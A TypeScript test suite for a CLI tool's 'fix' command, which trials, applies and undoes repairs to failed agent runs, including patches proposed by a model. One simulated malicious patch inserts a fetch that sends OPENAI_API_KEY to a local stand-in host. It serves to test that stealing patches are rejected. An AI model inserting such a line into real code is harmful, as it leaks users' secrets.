import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { mkdir, readdir, rename, rm, truncate, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { hasSandbox } from '../support/has-sandbox.js'
import { run, runCommands } from '../support/run-retake.mjs'
import { soakOnly } from '../support/soak.js'
import { agent, block, projectWith, RIGHT, wrongWord } from './fix-project.js'
import { cli } from './workspace.js'

test('a rule repairs a failed run, proven against a control arm, a sibling, a twin and the passing runs; then it is applied with a test and undone', async () => {
  const { fix, read, folder, runs, retake } = await projectWith(['1', '7', '8', '9'])
  const [, denied = ''] = runs
  const oracle = ['--oracle', 'stdout:/RESULT (pay|deny)/']
  const proven = await fix(
    'last',
    '--no-ai',
    ...oracle,
    '--opposite',
    denied,
    '--pull-request',
    'pr.md',
    '--pairs',
    'pairs.jsonl',
  )
  expect(proven, proven.stderr + proven.stdout).toMatchObject({
    code: 0,
    corpus: 2,
    confined: hasSandbox,
  })
  const [best] = proven.result?.fixes ?? []
  expect(proven.result).toMatchObject({ status: 'repaired', claim: 'proven', costUsd: 0 })
  expect(best).toMatchObject({
    verdict: { status: 'repairs', claim: 'proven' },
    evidence: {
      control: { passed: 0 },
      fixed: { passed: 2, trials: 2 },
      siblings: { passed: 1, trials: 1 },
      opposites: { passed: 1, trials: 1 },
      corpus: { identical: 2, breaks: 0, notChecked: 0 },
      isOracleGiven: true,
      losses: [],
      output: { stdout: 'RESULT deny\n', end: 'exit code 0' },
    },
  })
  expect(read()).toBe(agent)
  const request = readFileSync(join(folder, 'pr.md'), 'utf8')
  expect(request).toContain('| passes | 2 of 2 trials with it |')
  expect(request).toContain('| claim | proven |')
  const pair = JSON.parse(
    readFileSync(join(folder, 'pairs.jsonl'), 'utf8').split('\n')[0] ?? '',
  ) as object
  expect(pair).toMatchObject({
    file: 'agent.mjs',
    wrong: agent,
    right: best?.candidate.edits[0]?.after,
  })

  // Without a terminal, nobody can approve.
  expect(await retake('fix', 'last', '--no-ai', ...oracle, '--apply')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('FIX_NOT_APPROVED'),
  })
  // The trials of the first command are not run again.
  const applied = await fix('last', '--no-ai', ...oracle, '--apply', '--yes')
  expect(applied, applied.stderr).toMatchObject({ code: 0, newTrials: 0 })
  expect(read()).toBe(best?.candidate.edits[0]?.after)
  const written = applied.applied?.test ?? ''
  const tested = () => run(process.execPath, ['--test', written], folder)
  expect(await tested()).toMatchObject({ code: 0 })
  expect(await retake('fix', '--undo')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('undone'),
  })
  expect(read()).toBe(agent)
  expect(await tested()).toMatchObject({ code: 1 })
  expect(await retake('fix', '--undo')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('FIX_NOTHING_TO_UNDO'),
  })
  const { stdout } = await retake('fix', '--history')
  expect(
    stdout
      .trim()
      .split('\n')
      .map((line) => line.split(/ +/)[1]),
  ).toEqual(['apply', 'undo'])
}, 600_000)

test('a dirty file, a file that changed after the fix, and repeated applies stop an apply or undo', async () => {
  soakOnly()
  const { fix, folder, retake, read } = await projectWith(['9'])
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
      cwd: folder,
      stdio: 'ignore',
    })
  git('init', '-q')
  git('add', 'agent.mjs', 'package.json')
  git('commit', '-qm', 'first')
  await writeFile(join(folder, 'agent.mjs'), `${agent}// not committed\n`)
  const apply = (...args: string[]) =>
    fix('last', '--no-ai', '--apply', '--yes', '--no-test', ...args)
  expect(await apply()).toMatchObject({ code: 1, said: expect.stringContaining('FIX_DIRTY') })
  expect(read()).toContain('// not committed')
  git('commit', '-qam', 'second')
  expect(await apply()).toMatchObject({ code: 7 })
  await writeFile(join(folder, 'agent.mjs'), `${read()}// later\n`)
  expect(await retake('fix', '--undo')).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('FIX_FILE_CHANGED'),
  })
  await writeFile(join(folder, 'agent.mjs'), read().replace('// later\n', ''))
  expect(await retake('fix', '--undo')).toMatchObject({ code: 0 })
  expect(await apply()).toMatchObject({ code: 7 })
  expect(await retake('fix', '--undo')).toMatchObject({ code: 0 })
  expect(await apply()).toMatchObject({
    code: 1,
    said: expect.stringContaining('FIX_CIRCUIT_OPEN'),
  })
  expect(read()).toBe(`${agent}// not committed\n`)
}, 600_000)

test('a patch of a model is tried like any other; prose, wrong and special-cased ones are counted and rejected', async (context) => {
  context.skip(!hasSandbox, 'there is no bubblewrap')
  const { fix, patches, prompts, read } = await projectWith(['7', '2', '1'], wrongWord)
  const withModel = (...args: string[]) =>
    fix('last', '--oracle', 'exit:0', '--model', 'fixer', '--no-locate', '--yes', ...args)

  patches.push('Have you tried to run it again?', block('no such line', 'x'), RIGHT)
  const third = await withModel()
  expect(third, third.said).toMatchObject({
    code: 6,
    confined: true,
    model: { requests: 3, candidates: 1, unusable: { prose: 1, 'does not apply': 1 } },
    result: { status: 'repaired', claim: 'this-kind' },
  })
  const [best] = third.result?.fixes ?? []
  expect(best).toMatchObject({
    candidate: { author: 'model', title: 'A fix' },
    evidence: { siblings: { passed: 1, trials: 1 }, corpus: { identical: 1 } },
  })
  expect(prompts[0]).toContain("verdict !== 'pays'")
  expect(prompts[0]).toMatch(/<<<module at agent.mjs:\d+\n[^]*verdict = .pay./)
  expect(prompts.join('')).not.toContain('made-up-openai-api-key')
  expect(prompts[1]).toContain('could not be used: prose')

  // One that only knows the recorded input, one that breaks a passing run by another request, and
  // one that steals.
  patches.push(
    block("if (verdict !== 'pays'", "if (id !== '1' && verdict !== 'pays'"),
    [
      block("'Decide on order ' + id", "'Decide on order ' + id.replace('7', '8')"),
      block(
        "if (verdict !== 'pays' && verdict !== 'deny')",
        "if ((id === '7') === (verdict === 'pay'))",
      ),
    ].join('\n\n'),
    block(
      "console.log('RESULT', verdict)",
      "fetch('http://127.0.0.1:9/' + process.env.OPENAI_API_KEY)\nconsole.log('RESULT', verdict)",
    ),
  )
  const none = await withModel()
  expect(none, none.said).toMatchObject({
    code: 1,
    result: { status: 'not-fixed' },
    model: { candidates: 3 },
  })
  expect(none.result?.fixes.filter(({ verdict }) => verdict.claim !== undefined)).toEqual([])
  expect(none.result?.fixes.map(({ verdict }) => verdict.reason).join()).toContain(
    'It breaks 1 of 1 passing runs',
  )
  expect(read()).toBe(wrongWord)
}, 600_000)

test('an endless answer, a refusal and a missing endpoint end in one line each', async () => {
  const { fix, retake, env, folder } = await projectWith(['1'], wrongWord)
  const endless = createServer((_, response) => {
    response.setHeader('content-type', 'application/json')
    const write = (): void => {
      while (!response.destroyed && response.write(' '.repeat(65_536)));
    }
    response.on('drain', write)
    write()
  }).listen(0, '127.0.0.1')
  await once(endless, 'listening')
  onTestFinished(() => void endless.close())
  const url = `http://127.0.0.1:${(endless.address() as AddressInfo).port}/v1`
  const common = ['last', '--oracle', 'exit:0', '--no-locate', '--model', 'fixer']
  const said = await fix(...common, '--model-url', url)
  expect(said, said.said).toMatchObject({
    code: 1,
    model: { candidates: 0, requests: 1, unusable: { 'the model gave an answer without end': 1 } },
  })
  const refusing = createServer((_, response) => {
    response.statusCode = 401
    response.end('no')
  }).listen(0, '127.0.0.1')
  await once(refusing, 'listening')
  onTestFinished(() => void refusing.close())
  const refused = `http://127.0.0.1:${(refusing.address() as AddressInfo).port}/v1`
  expect(await retake('fix', ...common, '--model-url', refused)).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('FIX_MODEL_REFUSED') as string,
  })
  const keyless = Object.fromEntries(Object.keys(env).map((name) => [name, '']))
  const without = await run(process.execPath, [cli, 'fix', ...common], folder, { env: keyless })
  expect(without.stderr).toContain('FIX_NO_ENDPOINT')
}, 600_000)

test('input that cannot lead to a fix ends in one clear error', async () => {
  const { folder, runs, retake } = await projectWith(['1', '9'])
  const [first = ''] = runs
  type Said = Pick<Awaited<ReturnType<typeof retake>>, 'code' | 'stdout' | 'stderr'>
  const outcome = ({ code, stderr, stdout }: Said): string =>
    `${code} ${/code ([A-Z_]+)/.exec(stderr)?.[1] ?? stdout.trim()}`
  const refused = async (...args: string[]) => outcome(await retake('fix', ...args))
  const mistakes: readonly (readonly [args: string[], outcome: string | RegExp])[] = [
    [[first], '1 FIX_NO_FAILURE'],
    [[first, '--oracle', 'exit:0'], /^0 passes · nothing to fix/],
    [[], '2 WRONG_USAGE'],
    [['last', '--budget', '0'], '2 WRONG_USAGE'],
    [['last', '--budget', '$0'], '2 WRONG_USAGE'],
    [['last', '--no-ai', '--model', 'm'], '2 WRONG_USAGE'],
    [['last', '--undo'], '2 WRONG_USAGE'],
    [['last', '--api-key', 'k'], '1 FIX_NO_MODEL'],
    [['--undo'], '1 FIX_NOTHING_TO_UNDO'],
    [['--cluster', 'nothing'], '1 FIX_UNKNOWN_CLUSTER'],
  ]
  const said = await runCommands(
    mistakes.map(([args]) => ['fix', ...args]),
    folder,
  )
  expect(said.map(outcome)).toEqual(
    mistakes.map(([, expected]) => expect.stringMatching(expected) as string),
  )
  await mkdir(join(folder, '.retake/fix'), { recursive: true })
  await writeFile(join(folder, '.retake/fix/journal.json'), '{')
  expect(await refused('--history')).toBe('1 FIX_JOURNAL_UNREADABLE')
  await rm(join(folder, '.retake/fix'), { recursive: true })
  // Too large to copy: a file of more than a gigabyte, without its blocks.
  await writeFile(join(folder, 'data.bin'), '')
  await truncate(join(folder, 'data.bin'), 1024 ** 3 + 1)
  expect(await refused('last', '--no-ai')).toBe('1 FIX_PROJECT_TOO_LARGE')
  await rm(join(folder, 'data.bin'))
  await rename(join(folder, 'agent.mjs'), join(folder, 'gone.txt'))
  expect(await refused('last', '--no-ai')).toBe('1 FIX_NO_SOURCE')
  // Today's code no longer fails.
  await writeFile(
    join(folder, 'agent.mjs'),
    agent.replace('JSON.parse(choices', '({ verdict: "pay" }); void (choices'),
  )
  expect(await refused('last', '--no-ai')).toMatch(/^1 cannot reproduce/)
  await writeFile(join(folder, 'retake.config.json'), '{ "fix": { "policy": "observe" } }')
  expect(await refused('last', '--apply')).toBe('1 FIX_POLICY_OBSERVES')
  await writeFile(join(folder, 'retake.config.json'), '{ "fix": { "policy": "yolo" } }')
  expect(await refused('last')).toBe('1 CONFIG_INVALID')
  await rm(join(folder, 'retake.config.json'))
  await retake('record', '--', 'sh', '-c', 'exit 3')
  expect(await refused('last')).toBe('1 FIX_NOT_FORKABLE')
}, 600_000)

test('Ctrl-C leaves the project and the disk as they were, and the next command reuses the trials', async () => {
  const { folder, fix, read, env } = await projectWith(['1', '8', '9'])
  const stopped = spawn(process.execPath, [cli, 'fix', 'last', '--no-ai', '--apply', '--yes'], {
    cwd: folder,
    stdio: 'ignore',
    env: { ...process.env, ...env, TMPDIR: folder },
  })
  // After the first trial was stored.
  const results = join(folder, '.retake/fix/trials')
  const stored = (): number =>
    (existsSync(results) ? readdirSync(results, { recursive: true, encoding: 'utf8' }) : [])
      .filter((name) => name.endsWith('.json'))
      .map((name) => JSON.parse(readFileSync(join(results, name), 'utf8')) as { trials: object })
      .reduce((sum, { trials }) => sum + Object.keys(trials).length, 0)
  while (stored() === 0) await new Promise((resolve) => setTimeout(resolve, 20))
  stopped.kill('SIGINT')
  const [code] = (await once(stopped, 'close')) as [number]
  expect(code).toBe(130)
  expect(read()).toBe(agent)
  expect((await readdir(folder)).filter((name) => name.startsWith('retake-'))).toEqual([])
  const before = stored()
  const resumed = await fix('last', '--no-ai')
  expect(resumed, resumed.said).toMatchObject({ code: 6, result: { status: 'repaired' } })
  // Trials of the stopped command are not run again.
  expect(resumed.newTrials).toBe(stored() - before)
}, 600_000)

test('failures of the same kind are one cluster, and fix --cluster repairs the newest and tries the others', async () => {
  soakOnly()
  const { retake, fix } = await projectWith(['1', '8', '9', '8'])
  const { stdout } = await retake('failures', '--since', '1d', '--json')
  const { clusters } = JSON.parse(stdout) as {
    clusters: { id: string; runs: object[]; site: string; class: string }[]
  }
  expect(clusters).toMatchObject([{ site: 'agent.mjs:7', class: 'malformed-json' }])
  expect(clusters[0]?.runs).toHaveLength(3)
  const fixed = await fix('--cluster', clusters[0]?.id ?? '', '--no-ai')
  expect(fixed, fixed.said).toMatchObject({
    code: 6,
    result: { status: 'repaired', claim: 'this-kind' },
  })
  expect(fixed.result?.fixes[0]?.evidence.siblings).toMatchObject({ trials: 2, passed: 2 })
  expect(await retake('failures', '--since', 'yesterday')).toMatchObject({ code: 2 })
}, 600_000)

test('a failure that depends on chance is flaky, and no model is paid to fix it', async () => {
  const { fix, next, prompts } = await projectWith(['1'], wrongWord)
  // From now on the model gives the other answer.
  next.push(...Array.from({ length: 3 }, () => '{ "verdict": "deny" }'))
  const said = await fix('last', '--oracle', 'exit:0', '--model', 'fixer', '--yes')
  expect(said, said.said).toMatchObject({ code: 1, result: { status: 'flaky' } })
  expect(prompts).toEqual([])
}, 600_000)
